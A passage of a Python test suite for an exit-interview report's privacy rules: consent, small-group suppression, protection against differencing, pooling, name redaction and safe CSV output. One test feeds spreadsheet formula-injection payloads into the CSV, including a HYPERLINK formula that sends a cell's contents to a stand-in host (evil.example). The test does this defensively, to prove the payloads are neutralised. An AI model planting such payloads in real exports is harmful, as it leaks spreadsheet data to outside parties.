"""Each privacy rule of the report, proved on data built to break it (SQLite, and PostgreSQL with
OFFBOARDING_TEST_DATABASE_URL). Every test reports on its own quarter in its own year, so no test, nor
any trend line, sees another test's cases or reports."""

import csv
import io
import itertools
import random
from collections.abc import Callable
from datetime import UTC, date, datetime, time, timedelta

import pytest
from pydantic import ValidationError

from bench.seed_reports import closed_case, interview, record
from cases import consent
from models.report import CountTable, DeclaredGroup, ReportFigures, ReportPolicy
from privacy import retention
from privacy.audit import Auditor
from reports import periods, published, trends
from reports.aggregate import compile_figures, compile_report, shown_count
from reports.render import render_csv, render_html
from reports.summary import summary
from reports.suppression import protect
from reports.tables import ReportRow
from tests.support.report import csv_rows

K = 5
NOW = datetime(2026, 11, 1, tzinfo=UTC)


def quarter(year: int, number: int) -> tuple[date, date]:
    return periods.period_containing(date(year, number * 3, 1), "quarter")


def closing_in(period: tuple[date, date]) -> datetime:
    return datetime.combine(period[0] + timedelta(days=9), time(12), tzinfo=UTC)


async def seed(
    sessions, period, answers: list[dict | None], *, scope="advice_and_experiences", revoked_at=None, **case_fields
) -> list[str]:
    """Closed cases in the period, one per answer set; None in the list is a case without interview."""
    ids = []
    async with sessions.begin() as session:
        for answer in answers:
            case = closed_case(
                closed_at=closing_in(period),
                interview_status="held" if answer is not None else "declined",
                **case_fields,
            )
            session.add(case)
            await session.flush()
            if answer is not None:
                session.add(interview(case, answer, scope=scope, revoked_at=revoked_at))
            ids.append(case.id)
    return ids


async def figures_for(sessions, period, k: int = K, as_of: datetime = NOW):
    async with sessions() as session:
        return await compile_figures(
            session, report_id="test", start=period[0], end=period[1], zone="Europe/Amsterdam", k=k, as_of=as_of
        )


async def publish(sessions, period, k: int = K, as_of: datetime = NOW, pool_months: int = 0) -> str:
    """Compile and store the period's report, as the report activity does."""
    report_id = periods.report_id(*period)
    async with sessions.begin() as session:
        compiled = await compile_report(
            session,
            report_id=report_id,
            start=period[0],
            end=period[1],
            zone="Europe/Amsterdam",
            k=k,
            as_of=as_of,
            pool_months=pool_months,
        )
        row = ReportRow(
            id=report_id,
            revision=1,
            run_id="test",
            period_start=period[0],
            period_end=period[1],
            status="published",
            requested_by="test",
        )
        published.add(session, row, compiled)
    return report_id


def cells(table: CountTable) -> dict[str, int | None]:
    return {cell.key: cell.count for cell in table.cells}


def rating(figures, metric: str):
    return next(r for r in figures.ratings + figures.belonging if r.metric == metric)


def section(figures, topic: str):
    return next(s for s in figures.free_text if s.topic == topic)


def assert_not_derivable(table: CountTable, k: int = K) -> None:
    """Whatever a reader can compute from the shown total and shown cells covers at least k people; nothing hidden is named."""
    assert all(c.count is not None for c in table.cells)
    if table.total is None or table.other is None:
        return
    assert table.other == table.total - sum(c.count for c in table.cells) and table.other >= k


# Consent.
async def test_only_interviews_with_consent_for_the_experiences_count_in_ratings_and_reasons(sessions):
    period = quarter(1991, 2)
    await seed(
        sessions,
        period,
        [record(rating=5, recommend=10, primary="workload", went_well="Goede sfeer.") for _ in range(5)],
    )
    await seed(
        sessions,
        period,
        [
            record(
                rating=1,
                recommend=0,
                primary="manager",
                went_well="Niets ging goed.",
                most_important_advice="Alleen advies.",
            )
            for _ in range(5)
        ],
        scope="advice_only",
    )
    await seed(
        sessions,
        period,
        [
            record(
                rating=1, recommend=0, primary="manager", went_well="Geheim.", most_important_advice="Geheim advies."
            )
            for _ in range(5)
        ],
        scope="nothing",
    )

    figures = await figures_for(sessions, period)

    assert figures.respondents == 5
    assert rating(figures, "work_content").mean == 5.0 and rating(figures, "felt_safe").mean == 5.0
    assert figures.recommend.mean == 10.0 and figures.recommend.detractors == 0
    assert cells(figures.primary_reasons) == {"workload": 5}
    # Every held interview counts towards the response, whatever the consent.
    assert cells(figures.interview_response)["held"] == 15
    advice, went_well = section(figures, "advice"), section(figures, "went_well")
    assert "Alleen advies." in advice.texts and "Geheim advies." not in advice.texts
    assert went_well.texts == ["Goede sfeer."]


async def test_prefer_not_to_say_counts_as_no_answer(sessions):
    """ "Wil ik niet zeggen" at the recommend score, a rating, the main reason and a belonging rating: those
    respondents count in the response, not in the figures of the questions they chose not to answer."""
    period = quarter(1991, 3)
    declined = ["recommend_score", "experiences.work_content.rating", "primary_reason", "belonging.felt_safe"]
    experiences = {
        area: {"rating": None if area == "work_content" else 2, "comment": ""}
        for area in (
            "work_content",
            "working_conditions",
            "working_relations",
            "terms_of_employment",
            "work_organisation",
        )
    }
    belonging = {"felt_safe": None, "felt_at_home": 2, "felt_valued": 2, "influences": []}
    await seed(sessions, period, [record(rating=5, recommend=10, primary="workload") for _ in range(5)])
    await seed(
        sessions,
        period,
        [
            record(
                primary=None,
                recommend_score=None,
                experiences=experiences,
                belonging=belonging,
                prefer_not_to_say=declined,
            )
            for _ in range(5)
        ],
    )

    figures = await figures_for(sessions, period)

    assert figures.respondents == 10
    assert (figures.recommend.respondents, figures.recommend.mean, figures.recommend.detractors) == (5, 10.0, 0)
    assert (rating(figures, "work_content").respondents, rating(figures, "work_content").mean) == (5, 5.0)
    assert (rating(figures, "felt_safe").respondents, rating(figures, "felt_safe").mean) == (5, 5.0)
    # The questions they did answer count all ten.
    assert (rating(figures, "working_conditions").respondents, rating(figures, "working_conditions").mean) == (10, 3.5)
    assert cells(figures.primary_reasons) == {"workload": 5}
    assert "prefer_not_to_say" not in render_csv(figures) and "None" not in render_csv(figures)


async def test_a_consent_revoked_before_the_report_leaves_it(sessions):
    period = quarter(1992, 2)
    await seed(sessions, period, [record(rating=4, should_improve="Meer overleg.") for _ in range(6)])
    await seed(
        sessions,
        period,
        [record(rating=1, primary="manager", should_improve="Ingetrokken verhaal.")],
        revoked_at=NOW - timedelta(days=1),
    )
    await seed(
        sessions,
        period,
        [record(rating=2, primary="health", should_improve="Later ingetrokken.")],
        revoked_at=NOW + timedelta(days=1),
    )

    figures = await figures_for(sessions, period)

    # The one revoked after the report was made still counted for it.
    assert figures.respondents == 7
    assert rating(figures, "work_content").mean == round((6 * 4 + 2) / 7, 2)
    assert "manager" not in cells(figures.primary_reasons)
    assert "Ingetrokken verhaal." not in section(figures, "should_improve").texts
    later = await figures_for(sessions, period, as_of=NOW + timedelta(days=2))
    assert later.respondents == 6 and rating(later, "work_content").mean == 4.0
    # Held (8) against respondents (6) would count the revocations: held and the rate give way.
    assert shown_count(later.interview_response, "held") is None and later.response_rate is None
    assert_not_derivable(later.interview_response)
    assert next(t for t in later.trends if t.metric == "response_rate").points[-1].value is None


# Small groups.
async def test_everything_resting_on_fewer_than_k_respondents_is_suppressed(sessions):
    period = quarter(1993, 2)
    await seed(
        sessions,
        period,
        [
            record(rating=2, recommend=3, went_well="Herkenbaar verhaal.", target_group={"gender": "woman"})
            for _ in range(4)
        ],
    )

    figures = await figures_for(sessions, period)

    assert figures.respondents is None and figures.departures_by_type.total is None
    assert all(c.count is None for c in figures.departures_by_type.cells if c.key == "resignation")
    assert all(
        r.mean is None and r.respondents is None and all(c.count is None for c in r.distribution)
        for r in figures.ratings + figures.belonging
    )
    assert figures.recommend.mean is None and figures.recommend.nps is None
    assert all(g.respondents is None and set(g.means.values()) == {None} for b in figures.breakdowns for g in b.groups)
    assert section(figures, "went_well").suppressed and section(figures, "went_well").texts == []
    assert figures.response_rate is None
    html, csv = render_html(figures, "nl"), render_csv(figures)
    assert "Herkenbaar verhaal." not in html and "2.0" not in csv


async def test_a_group_of_exactly_k_is_shown_and_k_is_never_below_three(sessions):
    period = quarter(1994, 2)
    await seed(sessions, period, [record(rating=3) for _ in range(3)])

    assert (await figures_for(sessions, period, k=3)).respondents == 3
    assert (await figures_for(sessions, period, k=4)).respondents is None
    with pytest.raises(ValidationError):
        ReportPolicy(report_min_group_size=2)
    assert ReportPolicy().report_min_group_size == 5


# Differencing.
def test_complementary_suppression_hides_a_second_cell_when_one_is_small():
    shown, total = protect({"A": 7, "B": 6, "C": 2}, 15, K)
    assert shown == {"A": 7, "B": None, "C": None} and total == 15


def test_complementary_suppression_adds_cells_until_the_hidden_ones_hold_k_people():
    # Two small cells of 1 each: hidden together they still add up to 2, so a third goes.
    shown, total = protect({"A": 9, "B": 6, "C": 1, "D": 1}, 17, K)
    assert shown == {"A": 9, "B": None, "C": None, "D": None} and total == 17
    # Zeros stay visible and are never a complement: they hide nobody.
    shown, _ = protect({"A": 8, "B": 0, "C": 3}, 11, K)
    assert shown == {"A": None, "B": 0, "C": None}


def test_a_total_below_k_hides_the_whole_table():
    assert protect({"A": 3, "B": 1}, 4, K) == ({"A": None, "B": None}, None)


async def test_departures_by_department_cannot_be_recovered_by_subtraction(sessions):
    period = quarter(1995, 2)
    for department, count in (("Finance", 7), ("Sales", 6), ("Legal", 2)):
        await seed(sessions, period, [record() for _ in range(count)], department=department)

    figures = await figures_for(sessions, period)

    departments = cells(figures.departures_by_department)
    assert figures.departures_by_department.total == 15
    assert departments == {"Finance": 7} and figures.departures_by_department.other == 8
    assert_not_derivable(figures.departures_by_department)
    # The same people, as respondents per department: a hidden group's means would follow from the overall mean.
    breakdown = next(b for b in figures.breakdowns if b.dimension == "department")
    assert [(g.key, g.respondents, g.means["work_content"]) for g in breakdown.groups] == [("Finance", 7, 4.0)]
    assert breakdown.other == 8


async def test_target_groups_include_those_who_gave_nothing_so_no_group_is_left_to_derive(sessions):
    period = quarter(1996, 2)
    await seed(sessions, period, [record(target_group={"gender": "woman"}) for _ in range(6)])
    await seed(sessions, period, [record(target_group={"gender": "man"}) for _ in range(5)])
    await seed(sessions, period, [record(rating=1, target_group={"gender": "non_binary"})])

    figures = await figures_for(sessions, period)

    breakdown = next(b for b in figures.breakdowns if b.dimension == "gender")
    assert {g.key: g.respondents for g in breakdown.groups} == {"woman": 6} and breakdown.other == 6
    assert figures.respondents == 12


async def test_a_distribution_shown_beside_its_mean_is_all_or_nothing(sessions):
    # Five 5s and one 1: showing the count of 5s with the mean would give away the lone 1.
    period = quarter(1997, 2)
    await seed(sessions, period, [record(rating=5, recommend=10) for _ in range(5)] + [record(rating=1, recommend=2)])

    figures = await figures_for(sessions, period)

    work = rating(figures, "work_content")
    assert work.mean == round(26 / 6, 2) and work.respondents == 6
    assert [c.count for c in work.distribution] == [None] * 5
    rec = figures.recommend
    assert rec.mean == round(52 / 6, 2) and (rec.promoters, rec.passives, rec.detractors, rec.nps) == (
        None,
        None,
        None,
        None,
    )


async def test_a_distribution_without_small_cells_is_shown(sessions):
    period = quarter(1998, 2)
    await seed(
        sessions,
        period,
        [record(rating=4, recommend=9) for _ in range(5)] + [record(rating=2, recommend=5) for _ in range(5)],
    )

    figures = await figures_for(sessions, period)

    assert {c.key: c.count for c in rating(figures, "work_content").distribution} == {
        "1": 0,
        "2": 5,
        "3": 0,
        "4": 5,
        "5": 0,
    }
    assert (figures.recommend.promoters, figures.recommend.detractors, figures.recommend.nps) == (5, 5, 0.0)


async def test_hidden_cells_are_not_named_anywhere_only_counted_together(sessions):
    period = quarter(1999, 2)
    await seed(sessions, period, [record(primary="workload") for _ in range(8)])
    await seed(sessions, period, [record(primary="studies") for _ in range(4)])
    await seed(sessions, period, [record(primary="commute")])

    figures = await figures_for(sessions, period)

    assert cells(figures.primary_reasons) == {"workload": 8} and figures.primary_reasons.other == 5
    reasons = [
        row for row in csv_rows(render_csv(figures)) if row["section"] == "reasons" and row["dimension"] == "primary"
    ]
    assert {row["key"] for row in reasons} == {"total", "workload", ""}
    for text in (figures.model_dump_json(), render_html(figures, "en"), render_html(figures, "nl")):
        assert "studies" not in text and "commute" not in text.lower() and "Woon-werkverkeer" not in text


async def test_a_trend_resting_on_a_small_previous_period_is_suppressed(sessions):
    before, now = quarter(2000, 1), quarter(2000, 2)
    await seed(sessions, before, [record(rating=1) for _ in range(3)])
    await seed(sessions, now, [record(rating=4) for _ in range(6)])
    await publish(sessions, before)

    figures = await figures_for(sessions, now)

    trend = next(t for t in figures.trends if t.metric == "work_content")
    assert [p.label for p in trend.points][-2:] == ["2000-Q1", "2000-Q2"] and figures.previous_label == "2000-Q1"
    assert trend.points[-2].value is None and trend.points[-2].base is None
    assert trend.points[-1].value == 4.0 and trend.delta is None
    departures = next(t for t in figures.trends if t.metric == "departures")
    assert departures.points[-2].value is None and departures.delta is None


async def test_a_trend_is_shown_when_both_periods_are_large_enough(sessions):
    before, now = quarter(2001, 1), quarter(2001, 2)
    await seed(sessions, before, [record(rating=2) for _ in range(5)])
    await seed(sessions, now, [record(rating=4) for _ in range(5)])
    await publish(sessions, before)

    trend = next(t for t in (await figures_for(sessions, now)).trends if t.metric == "work_content")

    assert (trend.points[-2].value, trend.points[-1].value, trend.delta) == (2.0, 4.0, 2.0)


async def test_without_an_earlier_report_the_trend_has_only_this_period(sessions):
    # Cases in the quarter before, but no report on it (nor on any earlier period): its figures are never made up afterwards.
    before, now = quarter(1950, 1), quarter(1950, 2)
    await seed(sessions, before, [record(rating=2) for _ in range(5)])
    await seed(sessions, now, [record(rating=4) for _ in range(5)])

    figures = await figures_for(sessions, now)

    trend = next(t for t in figures.trends if t.metric == "work_content")
    assert [(p.label, p.value) for p in trend.points] == [("1950-Q2", 4.0)] and trend.delta is None
    assert figures.previous_label is None


def response_trend(figures: ReportFigures):
    return next(t for t in figures.trends if t.metric == "response_rate")


def response_in_csv(figures: ReportFigures) -> list[tuple[str, str, str, str]]:
    return [
        (row["key"], row["measure"], row["value"], row["suppressed"])
        for row in csv_rows(render_csv(figures))
        if row["section"] == "trend" and row["dimension"] == "response_rate" and row["key"].startswith("1983")
    ]


async def test_a_response_rate_that_would_give_away_one_decline_shows_nowhere_and_a_safe_one_shows(sessions):
    # Seven leavers, six interviews held, one declined: the rate (86%) would say that exactly one person declined.
    q1, q2, q3, q4 = (quarter(1983, n) for n in range(1, 5))
    for period in (q1, q2):
        await seed(sessions, period, [record(rating=4) for _ in range(6)] + [None])
    await seed(sessions, q3, [record(rating=4) for _ in range(10)] + [None] * 5)
    await seed(sessions, q4, [record(rating=4) for _ in range(15)] + [None] * 5)
    await publish(sessions, q1)
    q2_id = await publish(sessions, q2)
    figures = await stored_figures(sessions, q2_id)

    assert figures.response_rate is None and figures.departures_by_type.total == 7
    # (Reports of other tests, on earlier years, may stand before these in the line.)
    assert [(p.label, p.value) for p in response_trend(figures).points][-2:] == [("1983-Q1", None), ("1983-Q2", None)]
    assert response_trend(figures).delta is None
    assert response_in_csv(figures) == [
        ("1983-Q1", "value", "", "yes"),
        ("1983-Q2", "value", "", "yes"),
        ("1983-Q2", "change", "", "yes"),
    ]
    assert "0.8571" not in render_csv(figures) and "0.857" not in figures.model_dump_json()
    for language, word in (("nl", "respons"), ("en", "response")):
        html = render_html(figures, language)
        assert "86%" not in html and "86 %" not in html and "14%" not in html
        # The comparison still speaks of what shows (the departures), never of the rate it left out.
        changes = summary(figures, language)[0]
        assert changes.startswith(("Vergeleken met 1983-Q1", "Compared with 1983-Q1")), changes
        assert word not in changes.lower(), changes

    # A report stored before its trend line followed the headline kept the rate there; a later report takes an
    # earlier period's rate from that report's headline only, so it does not repeat it.
    async with sessions.begin() as session:
        row = await session.get(ReportRow, q2_id)
        stored = dict(row.figures)
        stored["trends"] = [
            {**t, "points": [*t["points"][:-1], {**t["points"][-1], "value": 0.8571}]}
            if t["metric"] == "response_rate"
            else t
            for t in stored["trends"]
        ]
        row.figures = stored
    # Read back, that report no longer shows it either (page, PDF, CSV and mails read it so).
    again = await stored_figures(sessions, q2_id)
    assert [p.value for p in response_trend(again).points][-2:] == [None, None] and response_trend(again).delta is None
    assert "0.8571" not in render_csv(again) and "respons" not in summary(again, "nl")[0].lower()
    following = await stored_figures(sessions, await publish(sessions, q3))
    assert following.response_rate == 0.6667
    assert [(p.label, p.value) for p in response_trend(following).points][-3:] == [
        ("1983-Q1", None),
        ("1983-Q2", None),
        ("1983-Q3", 0.6667),
    ]
    assert response_trend(following).delta is None and "0.8571" not in render_csv(following)
    assert "respons" not in summary(following, "nl")[0].lower()

    # Where no one is given away, the rate shows in the headline, the line, the CSV and the summary.
    last = await stored_figures(sessions, await publish(sessions, q4))
    assert last.response_rate == 0.75 and response_trend(last).delta == 0.0833
    assert response_in_csv(last)[-2:] == [("1983-Q4", "value", "0.75", ""), ("1983-Q4", "change", "0.0833", "")]
    assert "respons +8%" in summary(last, "nl")[0] and "response rate +8%" in summary(last, "en")[0]
    assert "75%" in render_html(last, "nl")

    # The trends page reads each period's headline: the same rates, the left-out ones left out.
    async with sessions() as session:
        stored_reports = [(await session.get(ReportRow, periods.report_id(*q))).figures for q in (q1, q2, q3, q4)]
    [rates] = [row for row in trends.build(stored_reports).rows if row.key == "response_rate"]
    assert rates.values == [None, None, 0.6667, 0.75]


# Free text.
async def test_free_text_shows_only_when_enough_people_wrote_it(sessions):
    period = quarter(2002, 2)
    await seed(
        sessions,
        period,
        [record(went_well="Fijne collega's.", most_important_advice="Investeer in mensen.") for _ in range(2)],
    )
    await seed(sessions, period, [record(most_important_advice=f"Advies {n}.") for n in range(3)])

    figures = await figures_for(sessions, period)

    assert section(figures, "went_well").suppressed and section(figures, "went_well").texts == []
    advice = section(figures, "advice")
    assert not advice.suppressed and advice.texts == ["Advies 0.", "Advies 1.", "Advies 2.", "Investeer in mensen."]
    # Nobody wrote anything: an empty section, which says nothing about anyone.
    assert not section(figures, "remember").suppressed and section(figures, "remember").texts == []


async def test_names_and_email_addresses_are_removed_from_free_text(sessions):
    # A colleague from another case: her name must go wherever it is capitalised.
    await seed(sessions, quarter(2003, 1), [None], employee_name="Roos Verbeek", manager_name="Karel Maes")
    period = quarter(2003, 2)
    text = (
        "Met anouk kon ik goed praten, maar Bram Janssens luisterde niet. "
        "Meneer Janssens mailde vanaf b.janssens@example.org. Roos Verbeek hielp wel; een roos voor haar."
    )
    await seed(
        sessions,
        period,
        [record(should_improve=text, most_important_advice="Vraag Verbeek om raad.") for _ in range(5)],
        employee_name="Anouk de Vries",
        manager_name="Bram Janssens",
    )

    figures = await figures_for(sessions, period)

    [improve] = section(figures, "should_improve").texts
    assert (
        improve
        == "Met […] kon ik goed praten, maar […] luisterde niet. Meneer […] mailde vanaf […]. […] hielp wel; een roos voor haar."
    )
    assert section(figures, "advice").texts == ["Vraag […] om raad."]
    html = render_html(figures, "en")
    for leaked in ("anouk", "Anouk", "Janssens", "@example.org", "Verbeek", "Roos"):
        assert leaked not in html


async def test_the_csv_holds_aggregated_figures_only(sessions):
    period = quarter(2004, 2)
    await seed(
        sessions,
        period,
        [record(went_well="Tekst die niet in de CSV hoort.") for _ in range(5)],
        employee_name="Sanne Peeters",
    )

    csv = render_csv(await figures_for(sessions, period))

    assert "Tekst die niet" not in csv and "Sanne" not in csv and "offboarding-" not in csv
    mean = next(
        row
        for row in csv_rows(csv)
        if (row["section"], row["dimension"], row["measure"]) == ("ratings", "work_content", "mean")
    )
    assert (mean["value"], mean["base"], mean["suppressed"]) == ("4.0", "5", "")


# The CSV in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+31 Sales",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab Team",
    "\rCR Team",
]


async def test_no_csv_cell_a_spreadsheet_would_run_as_a_formula(sessions):
    period = quarter(2006, 2)
    for department in FORMULAS:
        await seed(sessions, period, [record(rating=4) for _ in range(5)], department=department)

    text = render_csv(await figures_for(sessions, period))

    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    # Every department shows (departures and the breakdown), each time as text behind a single quote, never bare.
    for department in FORMULAS:
        assert "'" + department in cells and department not in cells, department
    # No other cell starts like a formula, but for the numbers the report writes itself (a negative change).
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)
    # And every such cell is quoted, so the quote prefix stays part of the text.
    for department in FORMULAS:
        assert '"' + ("'" + department).replace('"', '""') + '"' in text


# A published report's free text.
async def test_a_published_report_keeps_its_figures_and_loses_the_text_of_a_revocation_or_an_erasure(sessions):
    period = quarter(2007, 2)
    await seed(sessions, period, [record(rating=4, should_improve=f"Meer overleg {n}.") for n in range(5)])
    [revoked] = await seed(sessions, period, [record(rating=1, should_improve="Ingetrokken na publicatie.")])
    [erased] = await seed(sessions, period, [record(rating=2, should_improve="Gewist na de bewaartermijn.")])
    report_id = await publish(sessions, period)

    async def read():
        async with sessions() as session:
            return await published.figures_of(session, await session.get(ReportRow, report_id))

    before = await read()
    assert {"Ingetrokken na publicatie.", "Gewist na de bewaartermijn."} <= set(section(before, "should_improve").texts)
    async with sessions.begin() as session:
        await consent.revoke(session, revoked)
        await retention.erase_interview_content(session, erased, by=Auditor("system", frozenset({"system"})))

    after = await read()
    assert section(after, "should_improve").texts == [f"Meer overleg {n}." for n in range(5)]
    # The figures stay as published: a figure made again without them would show what they answered.
    assert after.model_dump(exclude={"free_text"}) == before.model_dump(exclude={"free_text"})
    assert rating(after, "work_content").mean == round((5 * 4 + 1 + 2) / 7, 2)


# Small organisations: a period with too few respondents is counted together with earlier such periods.
async def stored_figures(sessions, report_id: str) -> ReportFigures:
    async with sessions() as session:
        return await published.figures_of(session, await session.get(ReportRow, report_id))


async def test_a_small_organisation_gets_its_periods_pooled_and_no_period_is_in_two_published_pools(sessions):
    unhappy = record(rating=1, recommend=0, primary="manager")
    reports = {}
    for (year, number), respondents in {
        (1960, 1): 2,
        (1960, 2): 2,
        (1960, 3): 2,
        (1960, 4): 3,
        (1961, 1): 2,
        (1961, 2): 6,
    }.items():
        await seed(sessions, quarter(year, number), [unhappy] * respondents, department="Finance")
        report_id = await publish(sessions, quarter(year, number), pool_months=12)
        reports[f"{year}-Q{number}"] = await stored_figures(sessions, report_id)

    def pool(label: str):
        return reports[label].pooled

    # Too few in the quarter and, so far, together: the report says so, and shows nothing more.
    assert pool("1960-Q1").labels == ["1960-Q1"] and pool("1960-Q1").respondents is None
    assert pool("1960-Q2").labels == ["1960-Q1", "1960-Q2"] and pool("1960-Q2").respondents is None
    # Enough together: the figures of the three quarters as one.
    third = pool("1960-Q3")
    assert third.labels == ["1960-Q1", "1960-Q2", "1960-Q3"] and third.respondents == 6
    assert rating(third, "work_content").mean == 1.0 and cells(third.primary_reasons) == {"manager": 6}
    assert (third.period_start, third.period_end) == (date(1960, 1, 1), date(1960, 9, 30))
    # The next pool starts afresh: a rolling pool (1960-Q2 to Q4) minus this one would single out people.
    assert pool("1960-Q4").labels == ["1960-Q4"] and pool("1960-Q4").respondents is None
    assert pool("1961-Q1").labels == ["1960-Q4", "1961-Q1"] and pool("1961-Q1").respondents == 5
    assert pool("1961-Q2") is None and reports["1961-Q2"].respondents == 6

    published_pools = [f.pooled.labels for f in reports.values() if f.pooled and f.pooled.respondents is not None]
    every = [label for labels in published_pools for label in labels]
    assert len(every) == len(set(every)), "a period is in two published pools"
    # A pooled quarter shows nothing on its respondents itself, so nothing can be subtracted from the pool.
    for label in every:
        own = reports[label]
        assert own.respondents is None and own.primary_reasons.cells == [] and own.recommend.mean is None
        assert all(r.mean is None for r in own.ratings + own.belonging)
        assert all(not b.groups and b.other is None for b in own.breakdowns)
    html = render_html(reports["1960-Q3"], "nl")
    assert "1960-Q1, 1960-Q2, 1960-Q3 samen" in html and "Leidinggevende (6)" in html
    assert "te weinig" in render_html(reports["1960-Q1"], "nl")


async def test_a_pool_reaches_back_no_further_than_the_configured_window(sessions):
    unhappy = record(rating=2, recommend=3, primary="workload")
    await seed(sessions, quarter(1962, 1), [unhappy] * 3)
    await publish(sessions, quarter(1962, 1), pool_months=12)
    await seed(sessions, quarter(1963, 2), [unhappy] * 3)
    within_a_year = await stored_figures(sessions, await publish(sessions, quarter(1963, 2), pool_months=12))
    assert within_a_year.pooled.labels == ["1963-Q2"] and within_a_year.pooled.respondents is None
    await seed(sessions, quarter(1963, 3), [unhappy] * 3)
    two_years = await stored_figures(sessions, await publish(sessions, quarter(1963, 3), pool_months=24))
    assert two_years.pooled.labels == ["1962-Q1", "1963-Q2", "1963-Q3"] and two_years.pooled.respondents == 9


# Years of service, from the start date HR registered: one more breakdown, suppressed with the others.
async def test_tenure_bands_come_from_the_start_date_and_a_small_band_is_never_named(sessions):
    period = quarter(1964, 2)
    last_day = closing_in(period).date() - timedelta(days=3)
    answer = record(rating=4, recommend=8)
    await seed(sessions, period, [answer] * 6, start_date=last_day - timedelta(days=3 * 365))
    await seed(sessions, period, [answer] * 6, start_date=last_day - timedelta(days=12 * 365))
    await seed(sessions, period, [answer] * 5, start_date=last_day - timedelta(days=400))
    await seed(sessions, period, [answer] * 5)  # no start date registered
    figures = await figures_for(sessions, period)
    tenure = next(b for b in figures.breakdowns if b.dimension == "tenure_band")
    assert [(g.key, g.respondents) for g in tenure.groups] == [("1-2", 5), ("2-5", 6), ("10+", 6), ("not_given", 5)]
    html = render_html(figures, "nl")
    assert html.index("1 tot 2 jaar") < html.index("2 tot 5 jaar") < html.index("10 jaar of langer")

    small = quarter(1964, 3)
    last_day = closing_in(small).date() - timedelta(days=3)
    await seed(sessions, small, [answer] * 6, start_date=last_day - timedelta(days=3 * 365))
    await seed(sessions, small, [answer] * 6, start_date=last_day - timedelta(days=12 * 365))
    await seed(sessions, small, [answer] * 2, start_date=last_day - timedelta(days=100))
    figures = await figures_for(sessions, small)
    tenure = next(b for b in figures.breakdowns if b.dimension == "tenure_band")
    # The two with less than a year are not named; whatever shows beside them leaves at least five unaccounted for.
    assert "<1" not in {g.key for g in tenure.groups} and tenure.other is not None and tenure.other >= K
    assert sum(g.respondents for g in tenure.groups) + tenure.other == 14
    assert "Korter dan 1 jaar" not in render_html(figures, "nl")


# The organisation's self-declared target groups: breakdowns like gender and age, suppressed together with them.
MIGRATION = DeclaredGroup(key="migratie", nl="Migratieachtergrond", en="Migration background")


async def declared_figures(sessions, period) -> ReportFigures:
    async with sessions() as session:
        return (
            await compile_report(
                session,
                report_id="test",
                start=period[0],
                end=period[1],
                zone="Europe/Amsterdam",
                k=K,
                as_of=NOW,
                target_groups=[MIGRATION],
            )
        ).figures


def with_group(answer: str | None, **fields) -> dict:
    declared = {"migratie": answer} if answer else {}
    return record(target_group={"gender": fields.get("gender"), "declared": declared}, rating=fields.get("rating", 4))


async def test_a_self_declared_group_is_broken_down_and_a_small_one_never_named(sessions):
    period = quarter(1965, 2)
    await seed(sessions, period, [with_group("yes", rating=2)] * 6 + [with_group("no", rating=4)] * 7)
    figures = await declared_figures(sessions, period)
    [group] = [b for b in figures.breakdowns if b.dimension == "group:migratie"]
    assert group.name == {"nl": "Migratieachtergrond", "en": "Migration background"}
    assert [(g.key, g.respondents, g.means["work_content"]) for g in group.groups] == [("yes", 6, 2.0), ("no", 7, 4.0)]
    html = render_html(figures, "nl")
    assert "<h3>Migratieachtergrond</h3>" in html and html.index("<td>Ja</td>") < html.index("<td>Nee</td>")
    assert "<h3>Migration background</h3>" in render_html(figures, "en")

    # Two who said yes: too few. Neither they nor the group beside it are named, nor can a subtraction find them.
    small = quarter(1965, 3)
    await seed(
        sessions,
        small,
        [with_group("yes", rating=1, gender="woman")] * 2
        + [with_group("no", gender="woman")] * 6
        + [with_group(None, gender="man")] * 6,
    )
    figures = await declared_figures(sessions, small)
    [group] = [b for b in figures.breakdowns if b.dimension == "group:migratie"]
    assert "yes" not in {g.key for g in group.groups} and group.other is not None and group.other >= K
    gender = next(b for b in figures.breakdowns if b.dimension == "gender")
    people = [("yes", "woman")] * 2 + [("no", "woman")] * 6 + [("not_given", "man")] * 6
    members = [tuple(1 for _ in people)]
    members += [tuple(int(p[0] == g.key) for p in people) for g in group.groups]
    members += [tuple(int(p[1] == g.key) for p in people) for g in gender.groups]
    # No sum or difference of up to four figures shown covers fewer than the minimum (and not none).
    for size in range(1, 5):
        for chosen in itertools.combinations(members, size):
            for signs in itertools.product((1, -1), repeat=size):
                cover = [sum(s * m for s, m in zip(signs, column, strict=True)) for column in zip(*chosen, strict=True)]
                assert not (set(cover) <= {0, 1} and 0 < sum(cover) < K), (chosen, signs)
    assert render_html(figures, "nl").count("<td>Ja</td>") == 0

    # An organisation that asked nobody yet: no breakdown of everyone as "not given".
    none_yet = quarter(1965, 4)
    await seed(sessions, none_yet, [record()] * 6)
    figures = await declared_figures(sessions, none_yet)
    assert not [b for b in figures.breakdowns if b.dimension.startswith("group:")]


@pytest.mark.parametrize("seed_number", range(3))
async def test_pools_over_any_run_of_small_quarters_never_share_a_period(sessions, seed_number):
    """Quarters of a small organisation with any numbers of respondents: every published pool holds at least the
    minimum, only periods that showed nothing on their respondents, and no period is in two of them."""
    rng = random.Random(seed_number)
    year = 1930 + 6 * seed_number  # two quiet years between runs: no pool reaches into another run
    reports = {}
    for index in range(12):
        period = quarter(year + index // 4, index % 4 + 1)
        count = rng.choice([0, 1, 2, 3, 4, 6])
        await seed(sessions, period, [record(rating=rng.randint(1, 5))] * count)
        report_id = await publish(sessions, period, pool_months=rng.choice([12, 24]))
        reports[periods.label(*period)] = await stored_figures(sessions, report_id)
    pools = [f.pooled for f in reports.values() if f.pooled is not None and f.pooled.respondents is not None]
    pooled = [label for pool in pools for label in pool.labels]
    assert len(pooled) == len(set(pooled)), pooled
    assert all(pool.respondents >= K for pool in pools)
    assert all(reports[label].respondents is None for label in pooled)
    for figures in reports.values():
        if figures.respondents is not None:
            assert figures.pooled is None


# Reasons for leaving per target group: one more set of tables, suppressed with the report's other figures.
def reasons_of(gender: str, age: str, primary: str | None) -> dict:
    return record(primary_reason=primary, target_group={"gender": gender, "age_band": age})


# What the seeded people have in common: the department of ``seed`` and no start date.
COMMON = {"department": "Finance", "tenure_band": "not_given"}


Counted = tuple[str, Callable[..., bool], int | None]


def published_counts(figures: ReportFigures) -> list[Counted]:
    """Every count the report shows about its respondents, with who it counts: (name, test on a person, count)."""
    shown: list[Counted] = [("total", lambda p: True, figures.respondents)]
